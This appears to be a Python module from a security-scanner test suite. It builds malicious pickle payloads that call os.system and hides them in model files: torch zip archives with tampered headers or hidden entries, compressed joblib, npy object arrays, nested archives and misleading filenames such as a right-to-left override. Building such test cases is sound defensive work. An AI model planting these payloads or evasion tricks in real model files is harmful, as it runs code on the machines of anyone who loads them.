"""Containers: the evil stream lies inside something, under some other name, or the archive lies about itself."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from attacks.case import SHELL, Case, call, glob, one, push, stream, system
from attacks.sevenzip import stored_7z

KIND = "container"
EVIL = stream(system(), 2)
GOOD = stream(push({"weight": [1, 2]}), 2)
MAGIC = 0x1950A86A20F9469CFC6C


def zipped(members: list[tuple[str, bytes]], *, method: int = zipfile.ZIP_STORED, comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data, method)
        archive.comment = comment
    return out.getvalue()


def torch_zip(
    data: bytes = EVIL,
    *,
    top: str = "archive",
    method: int = zipfile.ZIP_STORED,
    more: tuple[tuple[str, bytes], ...] = (),
) -> bytes:
    members = [(f"{top}/data.pkl", data), (f"{top}/byteorder", b"little"), (f"{top}/version", b"3\n"), *more]
    return zipped(members, method=method)


def patched(data: bytes, offset: int, value: bytes) -> bytes:
    return data[:offset] + value + data[offset + len(value) :]


def central(data: bytes, index: int = 0) -> int:
    at = struct.unpack_from("<I", data, data.rindex(b"PK\5\6") + 16)[0]
    for _ in range(index):
        sizes = struct.unpack_from("<HHH", data, at + 28)
        at += 46 + sum(sizes)
    return int(at)


def torch_archives() -> Iterator[Case]:
    plain = torch_zip()
    for suffix in ("pt", "pth", "bin", "ckpt"):
        yield one(KIND, f"torch-zip-{suffix}", plain, path=f"model.{suffix}", loader="torch")
    yield one(KIND, "torch-zip-deflated", torch_zip(method=zipfile.ZIP_DEFLATED), path="model.pt", loader="torch")
    at = central(plain)
    yield one(KIND, "torch-zip-crc-central", patched(plain, at + 16, b"\1\2\3\4"), path="model.pt", loader="torch")
    yield one(
        KIND,
        "torch-zip-crc-both",
        patched(patched(plain, at + 16, b"\1\2\3\4"), 14, b"\1\2\3\4"),
        path="model.pt",
        loader="torch",
    )
    yield one(KIND, "torch-zip-encrypted-local", patched(plain, 6, b"\1\0"), path="model.pt", loader="torch")
    yield one(KIND, "torch-zip-encrypted-central", patched(plain, at + 8, b"\1\0"), path="model.pt", loader="none")
    yield one(KIND, "torch-zip-local-name", patched(plain, 30, b"archive/data.txt"), path="model.pt", loader="torch")
    yield one(
        KIND, "torch-zip-local-sizes", patched(plain, 18, struct.pack("<II", 1, 1)), path="model.pt", loader="torch"
    )
    yield one(KIND, "torch-zip-local-method", patched(plain, 8, b"\x63\0"), path="model.pt", loader="torch")
    yield one(KIND, "torch-zip-version-needed", patched(plain, at + 6, b"\xff\0"), path="model.pt", loader="torch")
    yield one(
        KIND,
        "torch-zip-comment",
        zipped([("a/data.pkl", EVIL), ("a/version", b"3\n")], comment=b"weights" * 9),
        path="model.pt",
        loader="torch",
    )
    yield one(KIND, "torch-zip-prefix", b"\x7fWEIGHTS" * 64 + plain, path="model.pt", loader="none")
    yield one(
        KIND,
        "torch-zip-duplicate-last",
        zipped([("a/data.pkl", GOOD), ("a/version", b"3\n"), ("a/data.pkl", EVIL)]),
        path="model.pt",
        loader="none",
    )
    yield one(
        KIND,
        "torch-zip-duplicate-first",
        zipped([("a/data.pkl", EVIL), ("a/version", b"3\n"), ("a/data.pkl", GOOD)]),
        path="model.pt",
        loader="none",
    )
    yield one(
        KIND,
        "torch-zip-other-member",
        torch_zip(GOOD, more=(("archive/extra/notes.pkl", EVIL),)),
        path="model.pt",
        loader="none",
    )
    yield one(
        KIND,
        "torch-zip-member-no-suffix",
        torch_zip(GOOD, more=(("archive/extra/notes", EVIL),)),
        path="model.pt",
        loader="none",
    )
    yield one(
        KIND,
        "torch-zip-storage-is-pickle",
        torch_zip(GOOD, more=(("archive/data/0", EVIL),)),
        path="model.pt",
        loader="none",
    )
    yield one(
        KIND,
        "torch-zip-constants",
        torch_zip(GOOD, more=(("archive/constants.pkl", EVIL),)),
        path="model.pt",
        loader="none",
    )
    yield one(KIND, "torch-zip-name-case", torch_zip(top="ARCHIVE"), path="MODEL.PT", loader="torch")
    yield one(KIND, "torch-zip-hidden-central", hidden_entry(), path="model.pt", loader="none")
    ext_attr = patched(plain, at + 38, struct.pack("<I", 0x10))
    yield one(KIND, "torch-zip-directory-flag", ext_attr, path="model.pt", loader="none")


def hidden_entry() -> bytes:
    """A member with a local header that the central directory does not list."""
    whole = zipped([("a/data.pkl", GOOD), ("a/version", b"3\n"), ("a/secret.pkl", EVIL)])
    last, end = central(whole, 2), whole.rindex(b"PK\5\6")
    tail = bytearray(whole[end:])
    struct.pack_into("<HH", tail, 8, 2, 2)
    struct.pack_into("<I", tail, 12, last - central(whole))
    return whole[:last] + bytes(tail)


def legacy(at: int) -> bytes:
    """torch's older form is five streams; the evil one takes the place of the stream `at`."""
    number = b"\x8a\x0a" + MAGIC.to_bytes(10, "little")
    info = push({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}})
    streams = [stream(number, 2), stream(push(1001), 2), stream(info, 2), GOOD, stream(b"]", 2)]
    streams[at] = EVIL if at else stream(system() + b"0" + number, 2)
    return b"".join(streams)


def torch_others() -> Iterator[Case]:
    for at in range(5):
        yield one(KIND, f"torch-legacy-stream-{at}", legacy(at), path="model.pt", loader="torch")
    yield one(KIND, "torch-raw-pickle", EVIL, path="pytorch_model.bin", loader="torch")
    yield one(
        KIND,
        "torch-legacy-sixth-stream",
        legacy(3)[: -len(stream(b"]", 2))].replace(EVIL, GOOD) + stream(b"]", 2) + EVIL,
        path="model.pt",
        loader="none",
    )
    tar = tarred([("storages", stream(push(0), 2)), ("tensors", stream(push(0), 2)), ("pickle", EVIL)])
    yield one(KIND, "torch-tar", tar, path="model.pt", loader="none")


def tarred(members: list[tuple[str, bytes]], mode: str = "w") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def npy(descr: str, body: bytes, shape: str = "(1,)") -> bytes:
    head = f"{{'descr': {descr if descr.startswith('[') else repr(descr)}, 'fortran_order': False, 'shape': {shape}, }}".encode()
    head += b" " * (-(len(head) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + body


def compressed() -> Iterator[Case]:
    forms = {
        "gzip": gzip.compress(EVIL, mtime=0),
        "bz2": bz2.compress(EVIL),
        "xz": lzma.compress(EVIL),
        "lzma": lzma.compress(EVIL, format=lzma.FORMAT_ALONE),
        "zlib": zlib.compress(EVIL),
        "raw": EVIL,
    }
    for name, data in forms.items():
        yield one(KIND, f"joblib-{name}", data, path="model.joblib", loader="joblib")
    yield one(KIND, "joblib-zlib-as-pkl", zlib.compress(EVIL, 9), path="model.pkl", loader="joblib")
    yield one(KIND, "joblib-lz4", lz4_frame(EVIL), path="model.joblib", loader="none")
    yield one(
        KIND,
        "joblib-gzip-two-members",
        gzip.compress(EVIL[:9], mtime=0) + gzip.compress(EVIL[9:], mtime=0),
        path="model.joblib",
        loader="none",
    )
    yield one(KIND, "joblib-zlib-twice", zlib.compress(zlib.compress(EVIL)), path="model.joblib", loader="none")
    yield one(KIND, "joblib-gzip-named-header", gzip_named(EVIL), path="model.joblib", loader="joblib")
    for suffix, data in (
        ("gz", forms["gzip"]),
        ("bz2", forms["bz2"]),
        ("xz", forms["xz"]),
        ("zip", zipped([("model.pkl", EVIL)])),
        ("tar", tarred([("model.pkl", EVIL)])),
    ):
        yield one(KIND, f"pandas-pickle-{suffix}", data, path=f"model.pkl.{suffix}", loader="pandas")
    wrapper = (
        glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
        + push({"subclass": glob("numpy", "ndarray"), "shape": (1,), "order": "C", "dtype": call("numpy", "dtype", "O8"), "allow_mmap": False})
        + b"b"
    )  # fmt: skip
    yield one(
        KIND,
        "joblib-object-array",
        b"\x80\x04" + bytes(wrapper) + stream(call("os", "system", SHELL), 2) + b".",
        path="model.joblib",
        loader="joblib",
    )


def gzip_named(data: bytes) -> bytes:
    plain = gzip.compress(data, mtime=0)
    return plain[:3] + b"\x18" + plain[4:10] + b"model.txt\0" + b"a comment\0" + plain[10:]


def lz4_frame(data: bytes) -> bytes:
    """LZ4 frame with one stored block and no checks (LZ4 frame format 1.6.2); the header check byte is xxh32(FLG+BD) >> 8."""
    return b"\x04\x22\x4d\x18\x60\x40\x82" + struct.pack("<I", len(data) | 1 << 31) + data + bytes(4)


def arrays() -> Iterator[Case]:
    evil_array = npy("|O", EVIL)
    yield one(KIND, "npy-object", evil_array, path="weights.npy", loader="numpy")
    yield one(KIND, "npy-is-pickle", EVIL, path="weights.npy", loader="numpy")
    yield one(
        KIND,
        "npz-object",
        zipped([("w.npy", npy("<f4", bytes(4))), ("x.npy", evil_array)]),
        path="weights.npz",
        loader="numpy",
    )
    yield one(
        KIND,
        "npz-pickle-member",
        zipped([("w.npy", npy("<f4", bytes(4))), ("x.pkl", EVIL)]),
        path="weights.npz",
        loader="none",
    )
    yield one(
        KIND,
        "npz-deflated",
        zipped([("x.npy", evil_array)], method=zipfile.ZIP_DEFLATED),
        path="weights.npz",
        loader="numpy",
    )
    yield one(KIND, "npz-named-txt", zipped([("x.npy", evil_array)]), path="weights.txt", loader="numpy")
    yield one(KIND, "npy-structured-object", npy("[('a', '|O')]", EVIL), path="weights.npy", loader="numpy")
    second = npy("<f4", bytes(4)) + evil_array
    yield one(KIND, "npy-second-array", second, path="weights.npy", loader="none")
    yield one(
        KIND,
        "npy-header-code",
        b"\x93NUMPY\x01\x00"
        + struct.pack("<H", 118)
        + b"{'descr': '<f4', 'fortran_order': False, 'shape': (__import__('os').system('id'),), }".ljust(117)
        + b"\n"
        + bytes(4),
        path="weights.npy",
        loader="none",
    )


def wrapped() -> Iterator[Case]:
    nested = zipped([("inner.zip", zipped([("model.pkl", EVIL)]))])
    rows = {
        "model.zip": zipped([("model.pkl", EVIL)]),
        "nested.zip": nested,
        "three.zip": zipped([("a.zip", nested)]),
        "model.tar": tarred([("weights/model.pkl", EVIL)]),
        "model.tar.gz": tarred([("weights/model.pkl", EVIL)], "w:gz"),
        "model.tar.xz": tarred([("weights/model.pkl", EVIL)], "w:xz"),
        "zip-in.tar.gz": tarred([("a.zip", zipped([("m", EVIL)]))], "w:gz"),
        "model.mar": zipped([("MAR-INF/MANIFEST.json", b"{}"), ("model.pt", torch_zip())]),
        "model.nemo": tarred([("./model_config.yaml", b"target: x\n"), ("./model_weights.ckpt", torch_zip())]),
        "torch-in.tar": tarred([("m.pt", torch_zip())]),
        "model.7z": stored_7z("model.pkl", EVIL),
        "deflated.zip": zipped([("model", EVIL)], method=zipfile.ZIP_DEFLATED),
        "bzip.zip": zipped([("model.pkl", EVIL)], method=zipfile.ZIP_BZIP2),
        "lzma.zip": zipped([("model.pkl", EVIL)], method=zipfile.ZIP_LZMA),
        "pickle-in.keras": zipped(
            [
                ("config.json", b"{}"),
                ("metadata.json", b"{}"),
                ("model.weights.h5", b"\x89HDF\r\n\x1a\n"),
                ("x.pkl", EVIL),
            ]
        ),
        "pickle-in.skops": zipped([("schema.json", b"{}"), ("1.pkl", EVIL)]),
        "gzip-in.zip": zipped([("model.pkl.gz", gzip.compress(EVIL, mtime=0))]),
    }
    for path, data in rows.items():
        yield one(KIND, f"wrapped-{path.replace('.', '-')}", data, path=path, loader="none")


def disguised() -> Iterator[Case]:
    for path in (
        "model",
        "weights.json",
        "notes.txt",
        "model.safetensors",
        "model.gguf",
        "model.onnx",
        "tokenizer.model",
        "README.md",
        "weights.dat",
        "model.h5",
        "vocab.bpe",
        "image.png",
        "model.tflite",
        ".hidden.pkl",
        "deep/er/model.data-00000-of-00001",
    ):
        yield one(
            KIND, f"disguised-{path.replace('/', '-').replace('.', '-').strip('-')}", EVIL, path=path, loader="pickle"
        )
    for path in ("training_args.bin", "optimizer.pt", "scheduler.pt", "rng_state.pth"):
        yield one(KIND, f"side-{path.replace('.', '-')}", torch_zip(), path=path, loader="torch")
    yield one(KIND, "disguised-torch-zip-safetensors", torch_zip(), path="model.safetensors", loader="none")
    yield one(KIND, "disguised-torch-zip-json", torch_zip(), path="model.json", loader="torch")
    yield one(
        KIND,
        "disguised-protocol-0-text",
        b"cos\nsystem\n(V" + SHELL.encode() + b"\ntR.",
        path="weights.txt",
        loader="pickle",
    )
    yield one(
        KIND,
        "disguised-long-text-first",
        b"(V" + b"readme " * 2000 + b"\n0cos\nsystem\n(V" + SHELL.encode() + b"\ntR.",
        path="notes.md",
        loader="pickle",
    )
    yield one(KIND, "disguised-right-to-left", EVIL, path="model\u202eslkp.txt", loader="pickle")


def cases() -> Iterator[Case]:
    yield from torch_archives()
    yield from torch_others()
    yield from compressed()
    yield from arrays()
    yield from wrapped()
    yield from disguised()
